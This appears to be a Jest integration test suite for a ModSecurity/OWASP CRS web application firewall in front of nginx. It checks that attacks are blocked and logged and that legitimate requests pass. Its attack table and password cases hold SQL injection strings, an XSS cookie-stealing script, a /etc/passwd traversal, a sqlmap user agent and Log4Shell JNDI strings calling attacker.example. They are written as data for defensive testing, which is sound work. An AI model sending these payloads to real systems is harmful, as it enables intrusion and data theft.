/**
 * The WAF (ModSecurity 3 + OWASP CRS, nginx/waf/, docs/waf.md) through the real nginx, auth service
 * and PostgreSQL: the classic attacks get the gateway's 403 (branded page for a browser, JSON for an
 * API client) and a log record with the request id and the rule ids, and the upstream sees
 * nothing; our own pages keep working (no false positives); DetectionOnly passes and logs; Off loads
 * nothing. Requests name a host (CRS rule 920350 scores a numeric Host header).
 */
import { afterAll, beforeAll, beforeEach, describe, expect } from '@jest/globals';
import { existsSync, readFileSync } from 'node:fs';
import type { OutgoingHttpHeaders } from 'node:http';
import { join } from 'node:path';
import { WAF_LOG, WAF_SNIPPETS_DIR } from '../../scripts/lib/nginx-runtime.js';
import { accessLogEntry, hiddenFields, setCookies, stackTest, startStack, type HttpResult, type Stack } from '../support/stack.js';

const HOST = 'gateway.localhost';
const BROWSER = 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8';

/** The rule ids ModSecurity logged in logs/waf.log for the request `requestId` (waiting briefly). */
async function rulesLoggedFor(stack: Stack, requestId: string, expected: string): Promise<string[]> {
  let ids: string[] = [];
  for (let waited = 0; waited < 3000 && !ids.includes(expected); waited += 25) {
    ids = wafLogLines(stack)
      .filter((l) => l.includes(`[unique_id "${requestId}"]`))
      .map((l) => /\[id "([0-9]+)"\]/.exec(l)?.[1] ?? '');
    if (!ids.includes(expected)) await new Promise((r) => setTimeout(r, 25));
  }
  return ids;
}

function wafLogLines(stack: Stack): string[] {
  const file = join(stack.nginx.prefix, WAF_LOG);
  return existsSync(file) ? readFileSync(file, 'utf8').split('\n').filter((l) => l.includes('ModSecurity:')) : [];
}

const usedIds = new Set<string>();
/**
 * The request id nginx logged for the newest request to `path` with `status` that no earlier call
 * returned (the access log has no query string, and its line lands just after the response).
 */
async function requestIdOf(stack: Stack, path: string, status: number): Promise<string> {
  const entry = await accessLogEntry(stack.nginx, (e) => e.path === path && e.status === status && !usedIds.has(String(e.request_id)));
  expect(entry).toBeDefined();
  usedIds.add(String(entry!.request_id));
  return String(entry!.request_id);
}

/** Signs in through nginx with a host name, as a browser would; returns the session cookie pair. */
async function signIn(stack: Stack, username: string, password: string): Promise<{ res: HttpResult; session: string | null }> {
  const page = await stack.request('GET', '/login', { host: HOST, accept: BROWSER });
  expect(page.status).toBe(200);
  const csrf = setCookies(page).map((c) => c.split(';')[0]!).find((c) => c.startsWith('gw_csrf='));
  const body = new URLSearchParams({ ...hiddenFields(page.body), username, password }).toString();
  const res = await stack.request(
    'POST',
    '/login',
    { host: HOST, accept: BROWSER, 'content-type': 'application/x-www-form-urlencoded', cookie: csrf, origin: `http://${HOST}` },
    body,
  );
  const session = setCookies(res).map((c) => c.split(';')[0]!).find((c) => c.startsWith('gw_session=') && c.length > 'gw_session='.length);
  return { res, session: session ?? null };
}

interface Attack {
  name: string;
  method: string;
  path: string;
  headers?: OutgoingHttpHeaders;
  body?: string;
  /** A rule of the attack's class that must be among the matched ones (949110 is the blocking one). */
  rule: string;
}

const ATTACKS: Attack[] = [
  { name: 'SQL injection in a query string', method: 'GET', path: `/reports?id=${encodeURIComponent("1' OR '1'='1' -- ")}`, rule: '942100' },
  {
    name: 'XSS in a form body',
    method: 'POST',
    path: '/comments',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ comment: '<script>alert(document.cookie)</script>' }).toString(),
    rule: '941100',
  },
  { name: 'path traversal', method: 'GET', path: `/files?name=${encodeURIComponent('../../../../etc/passwd')}`, rule: '930100' },
  { name: 'a scanner user agent', method: 'GET', path: '/', headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, rule: '913100' },
  { name: 'a Log4Shell JNDI string in a header', method: 'GET', path: '/', headers: { 'x-api-version': '${jndi:ldap://attacker.example/a}' }, rule: '1100' },
  { name: 'an obfuscated Log4Shell string in a query', method: 'GET', path: `/search?q=${encodeURIComponent('${${lower:j}ndi:rmi://attacker.example/x}')}`, rule: '1100' },
];

const pathOf = (attack: Attack) => attack.path.split('?')[0]!;

describe('WAF_MODE=On', () => {
  let stack: Stack;
  let session: string;
  const test = stackTest(() => stack);

  beforeAll(async () => {
    stack = await startStack({
      nginxVars: { WAF_MODE: 'On' },
      // Static assets as docs/waf.md shows them: the gate, without the WAF.
      editSite: (site) => site.replace('    location / {\n', '    location /static/ {\n        include snippets/protect-static.conf;\n        proxy_pass http://protected_app;\n    }\n\n    location / {\n'),
    });
    await stack.createUser('alice', 'correct horse battery staple', { groups: ['Staff'] });
    const signedIn = await signIn(stack, 'alice', 'correct horse battery staple');
    expect(signedIn.session).not.toBeNull();
    session = signedIn.session!;
  }, 60_000);
  afterAll(async () => {
    await stack?.stop();
  });
  beforeEach(() => stack.upstream.reset());

  const send = (attack: Attack, accept: string) =>
    stack.request(attack.method, attack.path, { host: HOST, accept, cookie: session, ...attack.headers }, attack.body);

  for (const attack of ATTACKS) {
    test(`${attack.name}: a signed-in browser gets the branded 403 page, and logs/waf.log the request id and rules`, async () => {
      const res = await send(attack, BROWSER);
      expect(res.status).toBe(403);
      expect(res.headers['content-type']).toMatch(/^text\/html/);
      expect(res.body).toContain('<h1>Access denied</h1>');
      expect(stack.upstream.seen).toHaveLength(0);
      const id = await requestIdOf(stack, pathOf(attack), 403);
      const rules = await rulesLoggedFor(stack, id, '949110');
      expect(rules).toContain(attack.rule);
      expect(rules).toContain('949110');
    });

    test(`${attack.name}: an API client gets JSON saying the firewall blocked it`, async () => {
      const res = await send(attack, 'application/json');
      expect(res.status).toBe(403);
      expect(JSON.parse(res.body)).toEqual({ error: 'forbidden', reason: 'request-blocked' });
      expect(stack.upstream.seen).toHaveLength(0);
      const entry = await accessLogEntry(stack.nginx, (e) => e.path === pathOf(attack) && e.status === 403 && !usedIds.has(String(e.request_id)));
      expect(entry?.reason).toBe('request-blocked');
      usedIds.add(String(entry!.request_id));
    });
  }

  test('an anonymous attack on the sign-in page is blocked too (no gate there)', async () => {
    const res = await stack.request('GET', `/login?rd=${encodeURIComponent("/x' UNION SELECT password FROM users --")}`, { host: HOST, accept: 'application/json' });
    expect(res.status).toBe(403);
    expect(JSON.parse(res.body)).toEqual({ error: 'forbidden', reason: 'request-blocked' });
    const rules = await rulesLoggedFor(stack, await requestIdOf(stack, '/login', 403), '949110');
    expect(rules).toContain('942100');
    expect(rules).toContain('949110');
    // A browser gets the branded 403 there too: the sign-in locations repeat the 403 error_page,
    // which their own error_page lines (snippets/auth-errors.conf) would otherwise drop.
    const page = await stack.request('GET', `/login?rd=${encodeURIComponent("/x' UNION SELECT password FROM users --")}`, { host: HOST, accept: BROWSER });
    expect(page.status).toBe(403);
    expect(page.body).toContain('<h1>Access denied</h1>');
    expect(page.body).toMatch(/Request id: <code>[0-9a-f]{32}<\/code>/);
  });

  test('an anonymous attack on a protected path meets the gate first: a redirect to sign in, no WAF verdict', async () => {
    const res = await stack.request('GET', `/reports?id=${encodeURIComponent("1' OR '1'='1' -- ")}`, { host: HOST, accept: BROWSER });
    expect(res.status).toBe(302);
    expect(stack.upstream.seen).toHaveLength(0);
  });

  test('the session cookie is left to the gate: a forged one never reaches the app, other cookies are still inspected', async () => {
    const forged = await stack.request('GET', '/reports', { host: HOST, accept: 'application/json', cookie: "gw_session=1' UNION SELECT password FROM users --" });
    expect(forged.status).toBe(401);
    const other = await stack.request('GET', '/reports', { host: HOST, accept: 'application/json', cookie: `${session}; theme=${encodeURIComponent("1' OR '1'='1' --")}` });
    expect(other.status).toBe(403);
    expect(stack.upstream.seen).toHaveLength(0);
  });

  const PASSWORDS = ["p' OR '1'='1' --", 'my<script>alert(1)</script>pw', 'percent%00null', 'x${jndi:ldap://a}y'];
  for (const password of PASSWORDS) {
    test(`a password containing ${JSON.stringify(password)} still signs in`, async () => {
      const username = `user${PASSWORDS.indexOf(password)}`;
      await stack.createUser(username, password);
      const { res, session: s } = await signIn(stack, username, password);
      // A sign-in answers 302 to the return path with the session cookie; a refusal re-renders the form.
      expect(res.status).toBe(302);
      expect(s).not.toBeNull();
    });
  }

  test('the same payload in the username is still inspected (the exclusion names the password only)', async () => {
    const { res } = await signIn(stack, "admin' OR '1'='1' --", 'whatever');
    expect(res.status).toBe(403);
  });

  test('a JSON API call with quotes and SQL-ish words in plain prose reaches the app', async () => {
    const body = JSON.stringify({ name: "O'Brien", note: 'Please select the best option from the list and update it.', tags: ['a', 'b'] });
    const res = await stack.request('POST', '/api-json/items', { host: HOST, accept: 'application/json', 'content-type': 'application/json', cookie: session }, body);
    expect(res.status).toBe(200);
    expect(stack.upstream.seen).toHaveLength(1);
    expect(stack.upstream.seen[0]!.body.toString('utf8')).toBe(body);
  });

  test('a body that is not the JSON its Content-Type claims is refused', async () => {
    const res = await stack.request('POST', '/api-json/items', { host: HOST, accept: 'application/json', 'content-type': 'application/json', cookie: session }, '{"name": ');
    expect(res.status).toBe(403);
    expect(stack.upstream.seen).toHaveLength(0);
  });

  test('an OIDC callback with code, state and an iss naming the IdP by IP address is not blocked', async () => {
    const query = new URLSearchParams({ code: 'Xy3-_k9QpLmN0aBcDeFgHiJkLmNoPqRsTuVwXyZ012', state: 'f0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5', iss: 'http://10.0.0.5:8443/realms/corp' });
    const res = await stack.request('GET', `/login/oauth2/code/oidc?${query}`, { host: HOST, accept: BROWSER });
    expect(res.status).not.toBe(403);
    const id = await requestIdOf(stack, '/login/oauth2/code/oidc', res.status);
    expect(wafLogLines(stack).filter((l) => l.includes(id))).toEqual([]);
  });

  test('the same IP-address URL in another parameter, or as iss on an app page, is still blocked (rule 931100)', async () => {
    const other = await stack.request('GET', `/login/oauth2/code/oidc?next=${encodeURIComponent('http://10.0.0.5:8443/realms/corp')}`, { host: HOST, accept: 'application/json' });
    expect(other.status).toBe(403);
    const onPage = await stack.request('GET', `/iss-check?iss=${encodeURIComponent('http://10.0.0.5:8443/realms/corp')}`, { host: HOST, accept: 'application/json', cookie: session });
    expect(onPage.status).toBe(403);
    expect(await rulesLoggedFor(stack, await requestIdOf(stack, '/iss-check', 403), '931100')).toContain('931100');
  });

  test('a Tableau-style /api/ XML call and a 3 MiB publish body pass to the app whole', async () => {
    const xml = '<tsRequest><workbook name="Q3 Sales" showTabs="true"><project id="1f2e3d4c-0000-4000-8000-000000000001"/></workbook></tsRequest>';
    const res = await stack.request('POST', '/api/3.19/sites/site-1/workbooks?workbookType=twbx', { host: HOST, accept: 'application/xml', 'content-type': 'application/xml', cookie: session }, xml);
    expect(res.status).toBe(200);
    const big = Buffer.alloc(3 * 1024 * 1024, 'PK\u0003\u0004 binary workbook data ');
    const publish = await stack.request('PUT', '/api/3.19/sites/site-1/fileUploads/abc', { host: HOST, accept: 'application/json', 'content-type': 'application/octet-stream', cookie: session }, big);
    expect(publish.status).toBe(200);
    expect(stack.upstream.seen.map((s) => s.body.length)).toEqual([Buffer.byteLength(xml), big.length]);
  });

  test('a location protected with protect-static.conf keeps the gate but skips the WAF', async () => {
    const asset = await stack.request('GET', '/static/app.js?v=3', { host: HOST, accept: '*/*', cookie: session, 'user-agent': 'sqlmap/1.7.2' });
    expect(asset.status).toBe(200);
    expect(stack.upstream.seen.map((s) => s.url)).toEqual(['/static/app.js?v=3']);
    const id = await requestIdOf(stack, '/static/app.js', 200);
    expect(wafLogLines(stack).filter((l) => l.includes(id))).toEqual([]);
    const anonymous = await stack.request('GET', '/static/app.js', { host: HOST, accept: BROWSER });
    expect(anonymous.status).toBe(302);
    // The same request on a page goes through the WAF.
    const page = await stack.request('GET', '/app.js?v=3', { host: HOST, accept: '*/*', cookie: session, 'user-agent': 'sqlmap/1.7.2' });
    expect(page.status).toBe(403);
  });
});

describe('WAF_MODE=DetectionOnly', () => {
  let stack: Stack;
  const test = stackTest(() => stack);
  beforeAll(async () => {
    stack = await startStack({ nginxVars: { WAF_MODE: 'DetectionOnly' } });
  }, 60_000);
  afterAll(async () => {
    await stack?.stop();
  });

  test('an attack passes, but is logged with its rules', async () => {
    const res = await stack.request('GET', `/login?rd=${encodeURIComponent("/x' UNION SELECT password FROM users --")}`, { host: HOST, accept: BROWSER });
    expect(res.status).toBe(200);
    const id = await requestIdOf(stack, '/login', 200);
    // DetectionOnly: 949110 is the anomaly score check, which only warns here.
    const rules = await rulesLoggedFor(stack, id, '949110');
    expect(rules).toContain('942100');
    expect(wafLogLines(stack).find((l) => l.includes(id) && l.includes('Access denied'))).toBeUndefined();
  });
});

describe('WAF_MODE=Off (the default of the test stack)', () => {
  let stack: Stack;
  const test = stackTest(() => stack);
  beforeAll(async () => {
    stack = await startStack();
  }, 60_000);
  afterAll(async () => {
    await stack?.stop();
  });

  test('loads nothing: no module, no rules, no WAF log, and the attack reaches the sign-in page', async () => {
    expect(existsSync(join(stack.nginx.prefix, 'conf', WAF_SNIPPETS_DIR))).toBe(false);
    const res = await stack.request('GET', `/login?rd=${encodeURIComponent("/x' UNION SELECT password FROM users --")}`, { host: HOST, accept: BROWSER });
    expect(res.status).toBe(200);
    expect(existsSync(join(stack.nginx.prefix, WAF_LOG))).toBe(false);
    expect(stack.nginx.errorLog()).not.toMatch(/ModSecurity/);
  });
});
